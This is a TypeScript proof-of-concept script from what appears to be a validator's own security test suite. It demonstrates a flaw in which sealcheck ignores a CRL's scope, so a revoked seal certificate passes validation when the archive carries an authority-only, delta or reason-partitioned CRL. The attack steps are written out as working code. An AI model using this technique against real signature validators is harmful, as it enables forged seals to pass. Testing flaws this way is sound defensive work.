// L2: a CRL's scope is not read. RFC 5280 §5.2.5/§5.2.4: a CRL with an Issuing Distribution Point that says
// onlyContainsCACerts (an "ARL", which every CA publishing CA certificates' status has), onlySomeReasons, or a
// delta CRL (deltaCRLIndicator) does not list revoked end-entity certificates (or lists only some reasons, or
// only changes): "not listed" on it says nothing about a seal or TSA certificate. sealcheck accepts both
// critical extensions as known (crl.ts KNOWN_CRITICAL) and then takes "not listed" as "not revoked", in
// seal-certificate, in long-term (TSA) and in augment's proof of a certificate (crlProves).
// Scenario: the seal's key was compromised; its CA revoked it on 2025-11-20 (keyCompromise). With the key, the
// attacker seals a PDF of their choice, leaves the CMS's adbe-revocationInfoArchival empty (it is the signer's
// to fill) and adds a DSS holding the CA's genuine CA-certificates-only CRL of the sealing day.
//   npx tsx scripts/attack36/crl-scope-ignored.ts [honest|arl|delta|reasons|augment]
// honest: the DSS holds the CA's complete CRL of that day (it lists the seal): TOTAL-FAILED / REVOKED.
// default: the ARL (IDP onlyContainsCACerts) instead: TOTAL-PASSED. delta: a delta CRL with no change that day.
// reasons: a CRL partitioned by reason (IDP onlySomeReasons = affiliationChanged, superseded).
// augment: the ARL archive given to `augment` (loopback TSA): the ARL is taken as the seal's proof (crlProves),
// and the revoked seal is preserved as PAdES-BASELINE-LTA, with a document timestamp over it.
import { augmentArchive } from "../../src/api/internal.js";
import { errorMessage } from "../../src/errors.js";
import { startTsa } from "../generator/servers.js";
import { buildArchive } from "../generator/archive.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { serialBytes } from "../generator/pki.js";
import { TIMELINE } from "../generator/timeline.js";
import { dss, pem, pki, save, scopedCrl, show, tool, verify, withDss, work } from "./lib.js";

const mode = process.argv[2] ?? "arl";
const P = pki();
const dir = work("l2");
const revokedAt = new Date("2025-11-20T12:00:00Z");
const day = {
  issuer: P.sealRoot,
  thisUpdate: new Date("2025-12-08T06:00:00Z"),
  nextUpdate: new Date("2025-12-15T06:00:00Z"),
};
const full = scopedCrl({
  ...day,
  number: 42,
  revoked: [{ serial: serialBytes(P.seal), at: revokedAt }],
});
const chosen =
  mode === "honest"
    ? full
    : mode === "delta"
      ? scopedCrl({ ...day, number: 43, deltaOf: 42 })
      : mode === "reasons"
        ? scopedCrl({ ...day, number: 44, idp: { onlySomeReasons: [3, 4] } })
        : scopedCrl({ ...day, number: 45, idp: { onlyContainsCACerts: true } }); // arl, augment
// Sealed with the compromised seal key, no revocation data in the CMS, a genuine signature timestamp.
const sealed = (await buildArchive(P, { seal: { revocation: { crls: [], ocsps: [] } } })).pdf;
const file = save(dir, "archive.pdf", withDss(sealed, { crls: [chosen], certs: [P.sealRoot.der] }));
console.log(`wrote ${file}: seal revoked ${revokedAt.toISOString()} (keyCompromise); DSS CRL = ${mode === "honest" ? "complete CRL #42" : mode}`);
show(mode, verify(file));
if (mode === "augment") {
  const tsa = await startTsa(P.tsa);
  try {
    // The TSA's own proof, as an archivist gives it (a current answer of its CA).
    const tsaOcsp = createOcspResponse({
      subject: P.tsa,
      issuer: P.tsaRoot,
      responder: P.tsaRoot,
      producedAt: new Date(Date.now() - 60_000),
    });
    const r = await augmentArchive({
      evidence: file,
      tsa: tsa.url,
      trust: ["samples/trust"],
      ocsp: [tsaOcsp],
    });
    const lta = save(dir, "archive-lta.pdf", r.bytes);
    console.log(
      `== augment: ${r.before.indication} ${r.before.padesLevel} -> ${r.after.indication} ${r.after.padesLevel}, DSS gained ${JSON.stringify(r.added)}, ${r.timestamp.field} at ${r.timestamp.genTime}`,
    );
    show("augmented", verify(lta));
  } catch (e) {
    // Since the L2 fix: the ARL is no proof for the seal (out of its scope), so nothing proves it unrevoked.
    console.log(`== augment refused: ${errorMessage(e)}`);
  } finally {
    await tsa.close();
  }
}
dss(file, "2025-12-09T00:00:00Z");
save(dir, "seal.pem", Buffer.from(P.seal.pem));
save(dir, "ca.pem", Buffer.from(P.sealRoot.pem));
save(dir, "crl.pem", Buffer.from(pem("X509 CRL", chosen)));
console.log(`== openssl verify -crl_check -attime ${Math.floor(TIMELINE.timestampAt.getTime() / 1000)} with that CRL:`);
console.log(
  tool("openssl", [
    "verify",
    "-crl_check",
    "-attime",
    String(Math.floor(TIMELINE.timestampAt.getTime() / 1000)),
    "-CAfile",
    `${dir}/ca.pem`,
    "-CRLfile",
    `${dir}/crl.pem`,
    `${dir}/seal.pem`,
  ]),
);
console.log("== openssl crl -text (its scope):");
console.log(
  tool("openssl", ["crl", "-in", `${dir}/crl.pem`, "-noout", "-text"])
    .split("\n")
    .filter((l) => /Distribution|Only|Delta|Reasons|CRL Number|Revoked|No Revoked/.test(l))
    .join("\n"),
);
